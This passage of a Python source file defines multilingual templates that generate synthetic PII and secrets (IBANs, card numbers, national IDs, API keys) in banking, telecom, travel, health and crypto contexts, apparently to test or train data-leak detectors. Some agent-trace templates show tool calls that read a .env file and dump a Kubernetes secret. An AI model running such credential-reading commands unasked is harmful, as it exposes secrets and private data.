    "Screening hit review: beneficiary name partial match 72%, beneficiary account <%iban:AE%>, ordering customer <%iban:GB,plain%>, BIC <%~bic%>. Cleared as false positive.",
    "gpi tracker: UETR <%~uuid%>, status ACSP, charges 15.00 EUR, instructed by <%~bic%>, last update <%~ts%>.",
    "Nostro reconciliation: break of <%~amount%> EUR on account <%~acctno:us%> at correspondent, value date <%~date:iso%>, our ref <%~order:REC%>.",
    "Training slide: the sample IBAN <%~sampleiban:1%> and the sample <%~sampleiban:2%> pass mod-97; real beneficiaries must never be copied into slides.",
)

fam('chargeback_disputes', 'en',
    "Chargeback case <%~claim:CB%> – reason code 10.4 (fraud, card-absent). Cardholder PAN <%card:visa%>, ARN <%~num:23%>, transaction <%~date:us%> <%~amount%> USD.",
    "Merchant response: we shipped order <%~order:ORD%> via UPS <%~tracking:ups%> to the cardholder's address; card on file ****<%~last4%>; customer email <%email:en%>; IP at checkout <%ip4%>.",
    "Dispute form: Card number: <%card:mc,dash%>  Expiry 09/28  Amount disputed <%~amount%>  Phone <%phone:us,n%>",
    "Issuer note: PAN <%~badcard:visa%> fails Luhn – probably keyed incorrectly by the agent. Requested corrected number from cardholder.",
    "Pre-arbitration: Amex SE number <%~num:10%>, card <%card:amex%>, dispute ID <%~stripeid:dp%>.",
    "Stripe webhook charge.dispute.created: {\"id\":\"<%~stripeid:dp%>\",\"charge\":\"<%~stripeid:ch%>\",\"payment_method_details\":{\"card\":{\"last4\":\"<%~last4%>\",\"brand\":\"visa\"}},\"evidence\":{\"customer_email_address\":\"<%email:en%>\"}}",
    "QA checklist: never paste full card numbers into the dispute notes; the test card <%~testcard%> is fine for the sandbox.",
    "Cardholder letter (OCR): I do not recognise the charge on my card no. <%card:visa,plain|nl=8%> from MERCHANT*<%~pnr%> on <%~date:us%>.",
    "Friendly fraud suspected: same device fingerprint <%~sha256%> used for orders from <%email:en%> and <%~maskemail:en%>.",
    "Retrieval request: card <%card:discover%>, auth code <%~pnr%>, POS entry mode 81, terminal id <%~num:8%>.",
    "Card number on the scanned receipt: <%~mask:bin%>. Gift card <%~gift%> was used for the remaining balance.",
    "Representment packet: cardholder <%name:en%>, billing phone <%phone:us%>, PAN <%card:jcb%>, AVS result Y, CVV2 match M.",
)

fam('tr_kyc_kontrol_listesi', 'tr',
    "Müşteri tanıma formu: Ad Soyad <%name:tr%>, T.C. Kimlik No <%~natid:tckn%>, doğum tarihi <%dob:tr%>, cep telefonu <%phone:tr,n%>, e-posta <%email:tr%>.",
    "KYC kontrol listesi ✔ kimlik ön/arka yüz ✔ canlılık testi ✔ adres belgesi (e-Devlet barkodu <%~pnr%>-<%~num:6%>) ✘ IBAN doğrulaması: <%iban:TR%>",
    "Merhaba, hesabım dondurulmuş. Doğum tarihim <%dob:tr_l%>, telefon <%phone:tr%>. Lütfen yardımcı olun. Talep no: <%~num:9%>",
    "Şüpheli işlem bildirimi (MASAK): müşteri numarası <%~num:10%>, işlem tutarı <%~amount%> TL, karşı hesap <%~badiban:TR%> (geçersiz kontrol basamağı).",
    "Kredi kartı başvurusu: kart no <%card:troy%> teslim edildi, kurye takip <%~tracking:pl%>.",
    "Adres değişikliği: yeni adres Bağdat Cad. No:<%r:1,400%> Kadıköy/İstanbul, vergi no <%~num:10%>, e-posta <%email:tr|at=tr%>.",
    "Risk skoru yeniden hesaplandı: 42 → 57. Müşteri IP adresi <%ip4%>, cihaz kimliği <%~uuid%>.",
    "Şube notu: Müşteri <%dob:de%> doğumlu, ancak kimlikteki geçerlilik tarihi <%~date:de%>; yenileme talep edildi.",
    "Vekâletname: vekil <%name:tr%>, vekâlet tarihi <%~date:de%>, noter yevmiye no <%~num:5%>, tarih <%~date:de%>.",
    "Hesap özeti gönderimi: <%~maskemail:tr%> adresine <%~date:de%> tarihinde gönderildi. Şifre müşteri doğum yılıdır.",
)

fam('hu_bankszamla_kivonat_export', 'hu',
    "Könyvelés dátuma;Partner neve;Partner számlaszáma;Összeg;Közlemény\n<%~date:hu%>;<%name:hu%>;<%iban:HU,plain%>;-<%r:1000,90000%>;albérlet\n<%~date:hu%>;<%name:hu%>;<%~acctno:hu,16%>;<%r:1000,90000%>;fizetés",
    "Tisztelt Ügyfelünk! Számlakivonata elkészült. Kérdés esetén hívja a <%phone:hu,n%> számot vagy írjon a <%email:hu%> címre.",
    "Ügyfélazonosító: <%~num:8%>, születési idő: <%dob:hu%>, anyja neve: <%name:hu%>, adóazonosító jel: <%~num:10%>.",
    "Átutalás visszautasítva: a kedvezményezett számlaszáma (<%~badiban:HU%>) hibás. Tranzakció azonosító <%~sha12%>.",
    "Kártyás vásárlás: <%~mask:stars%> – SPAR Budapest – <%r:500,40000%> HUF – engedélyszám <%~pnr%>",
    "Hitelkérelem: kérelem dátuma <%~date:hu%>, munkáltató adószáma <%~num:8%>-<%r:1,5%>-<%r:10,44%>, TAJ <%~natid:taj%>, mobil <%phone:hu%>.",
    "Beszedési megbízás: felhatalmazás <%~num:12%>, terhelendő számla <%iban:HU%>, érvényes <%~date:hu%>-ig.",
    "Export fájl: kivonat_<%r:2024,2026%>_<%r:1,12%>.csv, SHA-256 <%~sha256%>, sorok száma <%r:100,900%>.",
    "Értesítés: új eszközről jelentkeztek be (IP <%ip4%>, <%~ts%>). Ha nem Ön volt, hívja ügyfélszolgálatunkat.",
)

fam('da_forsikring_skade', 'da',
    "Skadeanmeldelse nr. <%~claim:SK%>: Forsikringstager <%name:da%>, CPR-nr. <%~natid:cpr%>, fødselsdato <%dob:de%>, telefon <%phone:dk%>.",
    "Hej, jeg vil anmelde et indbrud. Police nr. <%~policy:DK%>. Kontakt mig på <%email:da%> eller <%phone:dk,n%>. Mvh <%name:da%>",
    "Udbetaling af erstatning til konto <%iban:DK%> (reg.nr. og kontonr. oplyst af kunden). Sagsbehandler: initialer MJH.",
    "Bilskade: registreringsnummer <%~plate:se%>, stelnummer <%~vin%>, skadedato <%~date:de%>, værksted CVR <%~num:8%>.",
    "Rejseforsikring: police udstedt <%~date:de%>, rejse <%~date:de%>–<%~date:de%>, flybillet nr. <%~ticket%>, booking <%~pnr%>.",
    "Kunde skriver: min mail er <%email:da|at=da%> – ikke den gamle.",
    "Vedhæftet lægeerklæring fra <%~date:de%>, journal-nr. <%~num:7%>. Ingen yderligere personoplysninger.",
    "Fejl i betalingsfil: IBAN <%~badiban:DK%> afvist af banken (kontrolciffer). Batch <%~build%>.",
    "Arbejdsskade: tilskadekomne <%name:da%>, skadedato <%~date:de%>, arbejdsgiver CVR <%~num:8%>, arbejdsgiver-tlf. <%phone:dk%>.",
)

fam('no_forsikring_krav', 'no',
    "Skademelding innbo – kravnummer <%~claim:NO%>. Forsikringstaker <%name:no%>, fødselsnummer <%~natid:fnr%>, fødselsdato <%dob:no%>.",
    "Hei! Kan dere ringe meg på <%phone:no%>? Jeg har sendt bilder til <%email:no,d=skade-vest.no%> men fått feilmelding. Hilsen <%first:no%>",
    "Utbetaling til kontonummer <%iban:NO%>. Saksnummer <%~case:en%>. Egenandel kr <%r:2,20%> 000.",
    "Reiseforsyning: forsinket bagasje, bagtag <%pick:SK,DY,WF%><%~num:6%>, PNR <%~pnr%>, reisedato <%~date:de%>.",
    "Bilforsikring: reg.nr. <%~plate:se%>, bonus 75 %, kjørelengde 16 000 km, polise <%~policy:NO%>.",
    "Kunden oppga nytt mobilnummer <%phone:no,00%> ved telefonsamtale <%~date:de%>.",
    "Legeerklæring: undersøkt <%~date:de%>, diagnosekode <%~icd%>, sykmeldt fra <%~date:de%>.",
    "Systemlogg: kravbehandling-API svarte 502 for claimId=<%~uuid%> fra claims-gw-02, traceId=<%~trace%>.",
    "Takstmann-rapport nr. <%~num:6%>, befaring utført <%~date:de%>. GPS: <%~coords%>.",
)


# ================================================================ templates: telecom, travel, recruiting, health
fam('uk_ua_telecom_sim_swap', 'uk',
    "Заявка на заміну SIM-картки № <%~num:8%>. Абонент: <%name:uk%>, дата народження <%dob:uk%>, номер <%phone:ua%>. Стара SIM ICCID <%~iccid%>, нова ICCID <%~iccid%>.",
    "Добрий день! Втратив телефон, прошу заблокувати номер <%phone:ua,n%>. IMEI апарата <%~imei%>.",
    "Журнал оператора: SIM swap виконано о <%~ts%>, магазин №<%r:100,999%>, оператор ID <%~num:6%>, IP касового терміналу <%ip4:priv%>.",
    "Підозра на шахрайство: за 2 години на номер <%phone:ua,e164%> двічі запитано заміну SIM. Документ: паспорт <%~natid:passport2%>, РНОКПП <%~natid:inn%>.",
    "Клієнт просить надсилати рахунки на <%email:uk|at=uk%> замість паперових.",
    "PUK-код для ICCID <%~iccid%> видано після перевірки кодового слова. Дата видачі <%~date:uk%>.",
    "Перенесення номера: донор Kyivstar, реципієнт lifecell, номер <%phone:ua%>, контактний номер <%phone:ua,n%>, дата подання <%~date:uk%>.",
    "eSIM профіль: EID <%~num:32%>, SM-DP+ адреса rsp.example.org, код активації LPA:1$rsp.example.org$<%~pnr%>-<%~pnr%>.",
    "Оплата тарифу карткою <%card:mc%> — успішно, авторизація <%~pnr%>.",
)

fam('ru_perenos_nomera_mnp', 'ru',
    "Заявление о переносе номера (MNP): номер <%phone:ru%>, абонент <%name:ru%>, дата рождения <%dob:ru%>, паспорт <%~natid:passport%>.",
    "Здравствуйте! Хочу перейти к вам со своим номером <%phone:ru,n%>. Почта для договора: <%email:ru%>. Спасибо.",
    "Ответ донора: отказ в переносе, причина — задолженность <%~amount%> руб. по лицевому счёту <%~num:12%>. Заявка <%~uuid%>.",
    "Пишите на <%email:ru|at=ru%>, звонить лучше на <%phone:ru|sep=-%>",
    "Тех. лог: HLR update MSISDN=<%phone:ru,e164%> IMSI=<%~imsi%> result=OK ts=<%~epochms%>",
    "Договор № <%~num:9%> от <%~date:ru%>. ИНН абонента <%~natid:inn%>, СНИЛС <%~natid:snils%>. Контактный e-mail не указан.",
    "Возврат остатка на карту <%card:mir%> выполнен <%~date:ru%>. Код операции <%~sha12%>.",
    "Номер для примера в инструкции: <%~lit:+7 (XXX) XXX-XX-XX%>; никаких данных клиентов в инструкции нет. Версия документа <%~ver%>.",
    "Абонент звонил с номера <%phone:ru%>, представился родственником, дату рождения владельца (<%dob:ru_l%>) назвал неверно — перенос отклонён.",
)

fam('cdr_call_detail_records', 'en',
    "cdr_id|start_utc|calling|called|dur_s|cell_id|imei\n<%~cdrid%>|<%~ts%>|<%phone:de,e164%>|<%phone:fr,e164%>|<%r:3,900%>|<%~num:9%>|<%~imei%>\n<%~cdrid%>|<%~ts%>|<%phone:pl,e164%>|<%phone:de,e164%>|<%r:3,900%>|<%~num:9%>|<%~imei%>",
    "{\"record_type\":\"MOC\",\"a_number\":\"<%phone:nl,e164%>\",\"b_number\":\"<%phone:be,e164%>\",\"imsi\":\"<%~imsi%>\",\"msc\":\"MSC-AMS-04\",\"charge_id\":\"<%~cdrid%>\",\"duration\":<%r:3,3000%>}",
    "SMS CDR: orig=<%phone:in,e164%> dest=<%phone:in,e164%> smsc_id=<%~num:6%>, segs=2, status DELIVRD, ts=<%~epoch%>",
    "Roaming TAP file CDXXXX<%~num:5%>: <%r:10000,99999%> records, IMSI range <%~imsi%>–<%~imsi%>, sequence <%~num:5%>.",
    "Lawful intercept export (redacted): target MSISDN <%~msisdnmask%>, warrant ref <%~case:en%>, period <%~date:iso%>/<%~date:iso%>.",
    "IPDR: subscriber <%phone:gb,e164%> was assigned <%ip4%> (CGNAT port block 20480-20991) from <%~ts%> to <%~ts%>.",
    "Billing dispute: customer says they never called <%phone:tr,e164%>; CDR shows 14 calls, total <%~amount%> EUR.",
    "VoLTE trace: SIP INVITE sip:<%phone:us,e164%>@ims.mnc260.mcc310.3gppnetwork.org From: <sip:<%phone:us,e164%>@ims.mnc260.mcc310.3gppnetwork.org> Call-ID <%~sha1%>",
    "Data CDR: APN internet, bytes_up=<%~num:7%>, bytes_down=<%~num:9%>, ue_ip=<%ip6%>, rat=NR",
)

fam('airline_pnr_manifest', 'en',
    "RP/FRA1A0980/FRA1A0980 AA/SU 14MAR25/1022Z <%~pnr%>\n1.<%last:de|dash%>/<%first:de%> MR\n2 <%~flight%> Y 22MAR 1 FRAIST HK1 0810 1225\nSRDOCS LH HK1-P-DEU-<%~natid:passport%>-DEU-<%dob:en_s%>-M-<%~date:en_s%>-<%last:de%>-<%first:de%>\nCTCE <%email:de|pct%>\nCTCM <%phone:de,np%>",
    "Passenger manifest TK1724 IST-AMS: seq 041 <%name:tr%> DOB <%dob:iso%> doc <%~natid:passport2%>; seq 042 <%name:tr%> INF doc <%~natid:passport2%>.",
    "E-ticket receipt: ticket number <%~ticket%>, booking reference <%~pnr%>, frequent flyer <%pick:LH,TK,AF%> <%~num:9%>. Contact: <%email:en%>.",
    "SSR CTCM YY HK1/<%phone:gb,e164|nodash%>/EN and SSR CTCE YY HK1/<%email:gb|jsonu%>",
    "Check-in kiosk log: bag tag 0220<%~num:6%>, seat 23C, boarding pass barcode M1<%~pnr%>E<%~pnr%> FRAJFK LH 0400 081Y023C0041 100.",
    "Customer service: I need to change the DOB on my booking <%~pnr%> — it says <%~date:gb%> but I was born <%dob:gb%>.",
    "API passenger data (APIS) rejected: document expiry <%~date:iso%> is before travel date; booking date <%~date:iso%> ok.",
    "EMD <%~ticket%> issued for extra bag, paid with <%card:amex,plain%>, approval <%~pnr%>.",
    "Group booking list: 14 pax, PNR <%~pnr%>, tour leader mobile <%phone:it%>, leader email <%~maskemail:es%>.",
    "NDC OrderCreate response: <OrderID><%~pnr%><%~num:4%></OrderID><TotalAmount CurCode=\"EUR\"><%~amount%></TotalAmount><Token><%~sha256%></Token>",
)

fam('ar_travel_agency_gcc', 'ar',
    "حجز رقم <%~pnr%> — المسافر: <%name:ar%>، تاريخ السفر <%~date:fr%>، رقم الجواز <%~natid:passport%>، الجوال <%phone:sa%>.",
    "مرحباً، أرجو إرسال التذكرة إلى البريد <%email:ar%> وتأكيد المقعد. رقم التذكرة <%~ticket%>.",
    "بيانات الحاج: الاسم <%name:ar%>، تاريخ الميلاد <%dob:ar_n%>، رقم الهوية الوطنية <%~natid:iqama%>، الهاتف <%phone:sa,n%>.",
    "تم تحويل المبلغ إلى حساب الوكالة <%iban:SA%> بتاريخ <%~date:fr%>، رقم العملية <%~num:12%>.",
    "عميل من دبي: هاتف <%phone:ae%>، بطاقة الهوية الإماراتية <%~natid:eid%>، البريد <%email:ar|at=ar%>.",
    "فاتورة ضريبية رقم <%~order:INV%> — الرقم الضريبي للوكالة <%~vat:SA%>، المبلغ <%~amount%> ريال.",
    "رحلة <%~flight%> بتاريخ <%~date:fr%>، المقعد 14A، وزن الأمتعة 23 كغ، الرقم المرجعي <%~pnr%>.",
    "تحديث: تم الدفع ببطاقة <%card:visa%>، رقم الموافقة <%~pnr%>، والإيصال يظهر <%~mask:stars%> فقط.",
    "طلب تأشيرة عمرة: مواليد <%dob:ar_n%>، صلة القرابة مع المحرم: أخ، رقم الطلب <%~num:10%>.",
)

fam('fa_visa_application', 'fa',
    "فرم درخواست ویزا — نام: <%name:fa%>، تاریخ تولد: <%dob:fa%>، شماره گذرنامه: <%~natid:passport%>، کد ملی: <%~natid:irnid%>.",
    "سلام، لطفاً نتیجه را به ایمیل <%email:fa%> بفرستید. شماره همراه من <%phone:ir,n%> است.",
    "Submission date: <%~date:iso%> — تاریخ تولد شمسی: <%dob:fa_l%>. Appointment ID <%~num:9%>.",
    "وقت سفارت: <%~date:iso%> ساعت ۹:۳۰، کد رهگیری <%~pnr%><%~num:6%>، تلفن تماس <%phone:ir%>.",
    "مدارک مالی: گردش حساب بانکی، شبا <%iban:IR%>، میانگین موجودی <%~amount%> میلیون ریال.",
    "مسافر همراه (فرزند): تاریخ تولد <%dob:fa,lo=2010,hi=2020%>، شماره شناسنامه <%~num:7%>.",
    "ایمیل جایگزین: <%email:fa|at=en2%> — شماره پرونده VFS: <%~pnr%>/<%~num:8%>",
    "Error: passport number <%~natid:passport%> already linked to application <%~uuid%>. Contact the visa centre helpdesk for help.",
)

fam('ur_recruiting_ats_export', 'ur',
    "امیدوار: <%name:ur%>، تاریخ پیدائش <%dob:gb%>، شناختی کارڈ نمبر <%~natid:cnic%>، موبائل <%phone:pk,n%>، ای میل <%email:ur%>۔",
    "candidate_id,name,email,phone,stage\n<%~num:6%>,<%name:ur%>,<%email:ur%>,<%phone:pk,e164%>,Interview\n<%~num:6%>,<%name:ur%>,<%~maskemail:ur%>,<%phone:pk%>,Offer",
    "السلام علیکم، میں نے سافٹ ویئر انجینئر کی پوسٹ کے لیے اپلائی کیا تھا۔ میرا نمبر <%phone:pk|nodash%> ہے۔ شکریہ",
    "آفر لیٹر: تنخواہ <%r:150,600%>,000 روپے ماہانہ، تاریخ شمولیت <%~date:gb%>، ملازم نمبر <%~num:5%>۔",
    "بینک تفصیلات برائے تنخواہ: IBAN <%iban:PK%>، برانچ کوڈ <%~num:4%>۔",
    "Reference check: previous employer HR (Dubai office), phone <%phone:ae,n%>. Candidate notice period ends <%~date:iso%>.",
    "ATS audit log: user recruiter_17 exported 342 candidates from <%ip4%> at <%~ts%>, export id <%~uuid%>.",
    "براہ کرم سی وی اس پتے پر بھیجیں: <%email:ur|at=en%>",
)

fam('hi_background_verification', 'hi',
    "पृष्ठभूमि सत्यापन रिपोर्ट — उम्मीदवार: <%name:hi%>, जन्म तिथि: <%dob:in%>, आधार: <%~natid:aadhaar%>, पैन: <%~natid:pan_in%>।",
    "नमस्ते, मेरा ईमेल <%email:hi%> है और मोबाइल नंबर <%phone:in%> है। कृपया सत्यापन की स्थिति बताएं।",
    "पता सत्यापन: फ्लैट <%r:1,900%>, सेक्टर <%r:1,99%>, नोएडा; पड़ोसी से पुष्टि <%~date:in%> को; केस आईडी <%~case:en%>।",
    "Employment verification: ex-employer HR desk, landline <%phone:in,n%>, employee code <%~num:6%>.",
    "शैक्षिक प्रमाणपत्र: रोल नंबर <%~num:8%>, वर्ष <%r:2005,2020%>, बोर्ड CBSE. जन्म तिथि प्रमाणपत्र में <%dob:hi_n%>।",
    "आपराधिक रिकॉर्ड जांच: थाना स्तर पर कोई मामला नहीं; FIR खोज अवधि <%~date:in%> से <%~date:in%> तक।",
    "Candidate reached on <%phone:in,e164|sep=-%> — confirmed joining date <%~date:gb_l%>, father's name matched.",
    "उम्मीदवार का वैकल्पिक संपर्क: <%email:hi|at=en3%>",
    "US client requirement: SSN trace for candidate who worked in Texas — SSN <%ssn%>, result: name and DOB (<%dob:us%>) match.",
)

fam('bn_payroll_onboarding', 'bn',
    "নতুন কর্মী তথ্য: নাম <%name:bn%>, জন্ম তারিখ <%dob:bn_n%>, জাতীয় পরিচয়পত্র নম্বর <%~natid:bdnid%>, মোবাইল <%phone:bd,n%>।",
    "বেতন অ্যাকাউন্ট: ব্যাংক হিসাব নম্বর <%~acctno:in%>, রাউটিং নম্বর <%~num:9%>, বিকাশ নম্বর <%phone:bd%>।",
    "প্রিয় এইচআর, আমার ইমেইল ঠিকানা <%email:bn%>। অফার লেটার পাঠানোর জন্য ধন্যবাদ।",
    "Onboarding form: joining date <%~date:gb%>, emergency contact <%phone:bd,e164%>, TIN <%~num:12%>.",
    "ছুটির আবেদন: <%~date:gb%> থেকে <%~date:gb%> পর্যন্ত, কর্মী আইডি <%~num:5%>, অনুমোদনকারী: বিভাগীয় প্রধান।",
    "পেস্লিপ <%~date:gb%>: মূল বেতন <%r:20,90%>,000 টাকা, ভবিষ্য তহবিল নম্বর <%~num:8%>।",
    "HRIS sync error: employee email <%email:bn|zw=zwnj%> contains invisible characters; record <%~uuid%> skipped.",
    "কর্মীর জন্মদিন পার্টি <%~date:gb%> তারিখে বিকেল ৪টায় — সবাই আমন্ত্রিত!",
)

fam('id_apotek_resep', 'id',
    "Resep elektronik No. <%~order:RX%> — Pasien: <%name:id%>, tanggal lahir <%dob:nl%>, NIK <%~natid:nik%>, No. HP <%phone:id,n%>.",
    "Halo kak, obat saya sudah siap? Nomor WA saya <%phone:id%>, email <%email:id%>. Terima kasih.",
    "Klaim BPJS Kesehatan: nomor kartu <%~num:13%>, tanggal pelayanan <%~date:nl%>, diagnosa <%~icd%>.",
    "Stok opname: Amoxicillin 500 mg batch <%~lot%>, ED <%~date:nl%>, NIE DKL<%~num:10%>A1.",
    "Pembayaran dengan kartu kredit <%card:visa%> berhasil; nomor referensi <%~num:12%>.",
    "Data pasien lansia: lahir <%dob:id_l,lo=1941,hi=1960%>, alergi penisilin, kontak keluarga <%phone:id,e164%>.",
    "Kirim struk ke email <%email:id|at=id%> ya mbak",
    "Pengiriman obat via kurir, nomor resi <%~tracking:cn%>, alamat Jl. Melati No. <%r:1,99%>, Bandung.",
    "NPWP apotek <%~vat:ID%>, SIPA apoteker <%~num:5%>/SIPA/<%r:2019,2026%>.",
)

fam('ms_keputusan_makmal', 'ms',
    "Laporan makmal — pesakit: <%name:ms%>, No. MyKad <%~natid:mykad%>, tarikh lahir <%dob:ms_l%>, No. rujukan <%~lot%>.",
    "Keputusan HbA1c 7.2% (tinggi). Sampel diambil <%~date:gb%>, dilaporkan <%~date:gb%>. Doktor: Dr. <%name:ms%>.",
    "Salam, boleh hantar keputusan ujian darah ke <%email:ms%>? No telefon saya <%phone:my,n%>.",
    "LIS log: order <%~order:LAB%> received from HIS-PRD-01, specimen barcode <%~num:10%>.",
    "Temu janji pengambilan darah: <%~date:gb%> 8:30 pagi, hubungi <%phone:my%> untuk tunda.",
    "Bil klinik: bayaran kad <%card:mc%> diluluskan, kod <%~pnr%>.",
    "Borang pendaftaran: tarikh lahir <%dob:gb%>, waris <%name:ms%>, telefon waris <%phone:my,e164%>.",
    "Kawalan kualiti: nombor lot reagen <%~lot%>, CAS <%~cas%>, tarikh luput <%~date:gb%>.",
)


# ================================================================ templates: property, dealers, crypto (Asia)
fam('vi_quan_ly_nha_tro', 'vi',
    "Hợp đồng thuê nhà số <%~order:HD%> — Bên thuê: <%name:vi%>, CCCD <%~natid:cccd%>, email <%email:vi%>. Tiền cọc <%r:2,20%>.000.000 đồng.",
    "Chị ơi phòng 302 bị hỏng máy lạnh, chị gọi em số <%phone:vn,n%> nha. Mã phòng <%~num:4%>.",
    "Thông báo tiền điện tháng <%r:1,12%>: chỉ số cũ <%r:1000,5000%>, chỉ số mới <%r:5000,9000%>, mã khách hàng PE<%~num:11%>.",
    "Chuyển khoản tiền thuê: STK <%~acctno:vn%>, ngân hàng Vietcombank, nội dung 'P302 T<%r:1,12%>', mã giao dịch FT<%~num:11%>.",
    "Khách mới đăng ký tạm trú: <%name:vi%>, sinh <%dob:vi%>, quê quán Nam Định. Gửi bản scan về <%email:vi|at=vi%> giúp em.",
    "Camera cổng ghi nhận lúc <%~ts%>; router phòng trọ cấp IP <%ip4:priv%> cho thiết bị lạ, MAC <%~mac%>.",
    "Thanh toán online bằng thẻ <%card:visa%> thành công, mã hóa đơn <%~order:HD%>.",
    "Nội quy: khách ra vào trước 23h, không nuôi thú cưng. Liên hệ ban quản lý qua Zalo nhóm (không ghi số điện thoại ở đây).",
    "Yêu cầu hoàn cọc: người thuê đã trả phòng <%~date:vi%>, email nhận biên bản <%~maskemail:vi%>.",
)

fam('th_real_estate_agent', 'th',
    "สัญญาจะซื้อจะขายคอนโด เลขที่ <%~order:TH%> ผู้ซื้อ <%name:th%> เลขประจำตัวประชาชน <%~natid:thid%> อีเมล <%~maskemail:th%>",
    "สวัสดีค่ะ สนใจห้อง 2 ห้องนอนที่สุขุมวิท ติดต่อกลับที่ <%email:th%> นะคะ",
    "โฉนดที่ดินเลขที่ <%~num:5%> เลขที่ดิน <%~num:3%> หน้าสำรวจ <%~num:4%> พิกัด <%~coords%>",
    "ชำระมัดจำด้วยบัตร <%card:jcb%> เรียบร้อย หมายเลขอ้างอิง <%~num:12%>",
    "ผู้เช่าชาวต่างชาติ: passport <%~natid:passport%> วันเกิด <%dob:th%> วีซ่าหมดอายุ <%~date:gb%>",
    "CRM export: lead_id=<%~num:7%>; email=<%email:en%>; source=facebook; ip=<%ip4%>; budget=8-12MB",
    "ค่าส่วนกลางปี <%r:2567,2569%> ชำระภายใน <%~date:th_n%> ทะเบียนรถลูกบ้าน <%~plate:th%>",
    "ส่งเอกสารได้ที่ <%email:th|at=en%> หรือไลน์ไอดีของเอเจนต์",
)

fam('ko_car_dealer_finance', 'ko',
    "차량 할부 신청서 — 고객명 <%name:ko%>, 주민등록번호 <%~natid:rrn%>, 이메일 <%email:ko%>, 차량번호 <%~plate:ko%>.",
    "안녕하세요 시승 예약 원합니다. 연락은 <%email:ko|at=ko%> 로 주세요.",
    "중고차 성능점검기록부 No. <%~num:10%>, 차대번호 <%~vin%>, 주행거리 <%r:10000,150000%>km, 최초등록일 <%~date:ko_d%>.",
    "계약금 결제: 카드 <%card:visa%> 승인번호 <%~num:8%>, 할부 개월 수 36.",
    "고객 생년월일 <%dob:ko%> 확인 완료, 면허번호 <%~num:2%>-<%~num:2%>-<%~num:6%>-<%~num:2%>.",
    "딜러 포털 로그인 실패 5회: 계정 dealer_0412, 접속 IP <%ip4%>, 시각 <%~ts%>.",
    "리스 견적서 발송 완료 → <%~maskemail:ko%> (견적번호 <%~order:QT%>)",
    "보험 가입 확인: 증권번호 <%~policy:KR%>, 보장 개시일 <%~date:ko%>.",
    "API 연동 키 교체 안내: 새 키 <%sec:hex32%> 를 CAPITAL_API_KEY 에 넣고 이전 키는 폐기하세요.",
)

fam('ja_crypto_exchange_support', 'ja',
    "お問い合わせ番号 <%~num:10%>：出金が反映されません。登録メールアドレスは <%email:ja%> です。出金TxID <%~txhash%>。",
    "本人確認書類：運転免許証、生年月日 <%dob:ja%>、マイナンバー <%~natid:mynumber%>（提出不要のため削除済み）。",
    "APIキーが漏れたかもしれません。Key: <%sec:hex32%> Secret: <%sec:hex64%> すぐに無効化してください。",
    "出金先アドレス <%~wallet%>（ERC20）、ネットワーク手数料 0.0012 ETH。",
    "ログイン通知：新しいIPアドレス <%ip4%> からログインがありました（<%~ts%>）。",
    "クレジットカード <%card:jcb%> での入金は現在停止中です。",
    "メールアドレス変更：<%email:ja|fw%> に変更希望です。",
    "二段階認証のバックアップコード：<%~num:8%>？いいえ、それはサポート用の照会番号です。",
    "ウォレットのシードフレーズを聞かれた？当社は絶対に尋ねません。詐欺サイト <%pick:bitflyer-jp-login,coincheck-support-help%>.com にご注意ください。",
    "Webhook署名シークレット：<%sec:whsec%>（本番環境）",
)

fam('zh_crypto_exchange_support', 'zh',
    "工单 #<%~num:8%>：用户 <%name:zh%>，注册邮箱 <%email:zh%>，出生日期 <%dob:zh%>，身份证号 <%~natid:cnid%>。",
    "您好，我的提币一直在审核，地址 <%~wallet:btc%>，金额 0.35 BTC，请尽快处理。",
    "我的邮箱是 <%email:zh|at=zh2%>，手机号 <%phone:cn%>。",
    "风控日志：uid=<%~num:9%> login_ip=<%ip4%> device=<%~uuid%> risk=HIGH ts=<%~epochms%>",
    "用户在聊天里发了API密钥：<%sec:hex64%>，已提醒其立即删除并重置。",
    "充值银行卡 <%card:unionpay%> 已绑定，持卡人姓名与实名一致。",
    "交易哈希 <%~txhash%>，区块高度 <%r:18000000,21000000%>，确认数 12。",
    "客服备注：用户QQ邮箱 <%email:zh,d=qq.com%>，其他联系方式不提供。",
    "KYC 复核：证件有效期至 <%~date:zh%>，签发日期 <%~date:zh%>，人脸比对分数 0.93。",
    "Please send the report to our compliance team at <%~exemail%>; do not include the seed phrase.",
)

fam('ko_ja_zh_agent_tool_results', 'en',
    "@@ko user: 내 주문 내역 보여줘\nassistant: [tool call] orders.search(customer_id=<%~num:8%>)\ntool: {\"orders\":[{\"id\":\"<%~order:ORD%>\",\"email\":\"<%email:ko%>\",\"card_last4\":\"<%~last4%>\",\"status\":\"배송중\"}]}\nassistant: 주문 1건이 배송 중입니다.",
    "@@ja user: 顧客リストを出して\nassistant: <tool_use name=\"crm_query\">{\"limit\":2}</tool_use>\ntool_result: [{\"name\":\"<%name:ja%>\",\"mail\":\"<%email:ja%>\"},{\"name\":\"<%name:ja%>\",\"mail\":\"<%~maskemail:ja%>\"}]",
    "@@zh 用户：帮我查一下数据库连接\n助手：调用 get_config()\n工具返回：DATABASE_URL=postgresql://app_rw:<%sec:pws%>@pg-orders.internal:5432/orders\n助手：连接串中包含密码，已隐藏。",
    "Agent trace: step 3 tool=lookup_customer args={\"ssn\":\"<%ssn%>\"} → result={\"name\":\"<%name:en%>\",\"dob\":\"<%dob:iso%>\",\"risk\":\"low\"}",
    "tool: read_file(\".env\")\nresult: OPENAI_API_KEY=<%sec:openai%>\nSTRIPE_KEY=<%sec:stripe%>\nassistant: I found two credentials in .env; I will not print them in the summary.",
    "assistant: Running `kubectl get secret db-creds -o yaml`\ntool: data:\n  password: <%sec:pw|b64%>\n  username: <%pick:YWRtaW4=,cG9zdGdyZXM=%>",
    "tool_result: {\"hits\":[{\"_id\":\"<%~oid24%>\",\"_source\":{\"customer\":\"<%email:en%>\",\"phone\":\"<%phone:us,e164%>\",\"ip\":\"<%ip4%>\"}}],\"took\":12}",
    "assistant: The test card <%~testcard%> and the doc IP <%~docip%> are placeholders; the only real value in the ticket is the customer's email <%email:gb%>.",
    "user: summarize this incident\ntool(fetch_ticket): reporter=<%email:en%> host=web-3 token_prefix=<%~lit:ghp_****%> commit=<%~sha1%>\nassistant: The reporter saw a leaked token prefix; no full token is present.",
    "tool: search_users(q=\"<%pick:smith,garcia,nguyen%>\") → [{\"id\":<%~num:6%>,\"ni\":\"<%nino%>\",\"dob\":\"<%dob:gb%>\"}]",
)


# ================================================================ templates: developer artefacts
fam('terraform_state', 'en',
